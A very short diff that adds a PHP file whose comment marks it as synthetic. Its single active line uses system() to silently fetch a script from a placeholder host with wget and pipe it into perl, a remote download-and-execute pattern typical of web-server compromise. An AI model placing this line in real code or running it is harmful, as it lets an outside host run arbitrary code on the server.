@@ -1,0 +1,3 @@
+<?php
+// synthetic: a remote script piped straight into perl
+system("wget -q -O - bots.example.test/x | perl");
